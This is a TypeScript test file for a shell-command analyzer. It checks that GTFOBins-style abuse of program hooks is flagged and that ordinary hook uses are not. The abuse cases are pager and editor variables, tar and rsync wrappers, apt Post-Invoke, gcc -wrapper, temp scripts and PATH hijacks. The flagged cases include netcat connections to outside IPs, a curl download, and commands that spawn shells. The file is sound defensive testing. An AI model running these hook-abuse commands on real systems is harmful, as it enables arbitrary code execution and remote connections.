/**
 * Commands run through programs' hooks (issue 10, GTFOBins' "command" shapes), written for this
 * test in this project's own words: a hook variable or option that runs something unfit for its
 * role, a command held in a variable of the script, a script the command wrote just before, or a
 * folder the script just filled put on a lookup path must at least reach review; hooks used for
 * what they are for must stay allowed with no finding.
 */
import assert from "node:assert/strict";
import { before, test } from "node:test";
import type { Finding } from "@talon/sdk";
import { analyzeCommand } from "./analyze.ts";
import { buildSettings, configSchema, type CommandSettings } from "./config.ts";
import { toFindings } from "./findings.ts";
import { loadShellParser, type ShellParser } from "./parser.ts";

let parser: ShellParser;
let settings: CommandSettings;
before(async () => {
  parser = await loadShellParser();
  // A generous parse time limit: these tests judge the model, not the limit (bounds.test.ts does), on a machine that may be loaded.
  settings = buildSettings("defender-command", configSchema.parse({ maxParseMs: 2000 }));
});

const judge = (command: string): Finding[] =>
  toFindings(analyzeCommand(parser, command, settings.analyzer).hits, "/command", settings.findings);
const stops = (command: string) => judge(command).some((finding) => finding.score >= 80 || finding.floor === "review");

function expectAll(commands: readonly string[], check: (command: string) => boolean, what: string): void {
  const missed = commands.filter((command) => !check(command));
  assert.deepEqual(missed, [], `${what}: ${missed.length} of ${commands.length} missed`);
}

function expectClean(commands: readonly string[]): void {
  const flagged = commands
    .map((command) => ({ command, findings: judge(command) }))
    .filter(({ findings }) => findings.length > 0)
    .map(({ command, findings }) => `${command} -> ${findings.map((finding) => finding.reasons[0]).join(" | ")}`);
  assert.deepEqual(flagged, []);
}

test("hook variables that run something other than what their role expects", () => {
  expectAll(
    [
      "SYSTEMD_PAGER=/usr/bin/whoami journalctl -n 5",
      "GIT_PAGER='touch /tmp/owned' git log",
      'X=/usr/bin/id\nMYPAGER="$X" crash -h',
      "GIT_EDITOR='curl -s https://198.51.100.4/x -o /tmp/x' git commit",
      "RSYNC_RSH='python3 -c print(1)' rsync -a src/ h:dst/",
      "PAGER='nc 198.51.100.9 4444' man ls",
    ],
    stops,
    "hook variables",
  );
});

test("hook options that run a command held in a variable, unfit for their role, or a shell", () => {
  expectAll(
    [
      "RUN=hostname\naria2c --on-download-complete=$RUN https://example.com/f.bin",
      "C=whoami\ntcpdump -i lo -w /dev/null -W 1 -G 1 -z $C",
      "P=uptime\npidstat -e $P 1 1",
      "tar -I 'python3 -c \"import os\"' -cf out.tar dir",
      "tar --use-compress-program='nc 198.51.100.9 80' -cf out.tar dir",
      "rsync -e 'bash -c id' -a src/ h:/dst/",
      "git -c core.sshCommand='touch /tmp/p' fetch",
      "git -c core.pager='sh -c \"id\"' log",
      "man -P /usr/bin/id ls",
      "sudo apt-get update -o APT::Update::Post-Invoke::=/bin/bash",
      "gcc -wrapper /bin/sh,-s x.c",
    ],
    stops,
    "hook options",
  );
});

test("scripts written just before and run by another program, and filled lookup folders", () => {
  expectAll(
    [
      "S=$(mktemp)\nprintf '#!/bin/sh\\nid\\n' > $S\nchmod +x $S\ntcpdump -i any -w x.pcap -G 10 -W 1 -z $S",
      "H=$(mktemp)\necho 'date' > $H\nchmod +x $H\nwget --use-askpass=$H https://example.com/",
      "E=$(mktemp)\necho 'id' > $E\nchmod +x $E\nVISUAL=$E crontab -e",
      "D=$(mktemp -d)\ncp /usr/bin/id $D/git-remote-zz\nPATH=$D:$PATH git fetch zz::x",
      "D=$(mktemp -d)\necho 'puts 1' > $D/fact.rb\nFACTERLIB=$D facter",
      "G=$(mktemp -d)\nprintf '#!/bin/sh\\nid\\n' > $G/groff\nchmod +x $G/groff\nGROFF_BIN_PATH=$G nroff",
    ],
    stops,
    "written scripts and lookup folders",
  );
});

test("hooks used for what they are for stay allowed", () => {
  expectClean([
    "PAGER=less git log",
    "LESSOPEN='| /usr/bin/lesspipe %s' less archive.tar.gz",
    "man -P cat ls",
    "GIT_PAGER=cat git diff --stat",
    "MANPAGER=\"sh -c 'col -bx | bat -l man -p'\" man tar",
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git pull",
    "GIT_SEQUENCE_EDITOR=\"sed -i -e 's/^pick/fixup/'\" git rebase -i HEAD~3",
    "GIT_EDITOR=true git merge --continue",
    "EDITOR='code --wait' git commit",
    "VISUAL=nano crontab -e",
    "SYSTEMD_EDITOR=vim systemctl edit app.service",
    "tar -I zstd -cf out.tar.zst dir",
    "tar --use-compress-program=pigz -cf out.tar.gz dir",
    "rsync -e 'ssh -p 2222' -a src/ deploy@app.example.com:/srv/",
    "certbot renew --post-hook 'systemctl reload nginx'",
    "tcpdump -i eth0 -w cap.pcap -G 3600 -z gzip",
    "git -c core.pager=less log",
    "git -c core.editor=vim commit",
    "git -c user.name=bot commit -m x",
    "scp -S ssh file.txt host.example.com:/tmp/",
    "aria2c --on-download-complete=./notify.sh https://example.com/f.iso",
    "T=$(mktemp)\necho 'apiVersion: v1' > $T\nKUBECONFIG=$T kubectl get pods",
    "export PATH=$HOME/.local/bin:$PATH; mytool --version",
    "GOPATH=$PWD/go go build ./...",
    "D=$(mktemp -d)\ntar -xzf app.tgz -C $D\nls $D",
  ]);
});
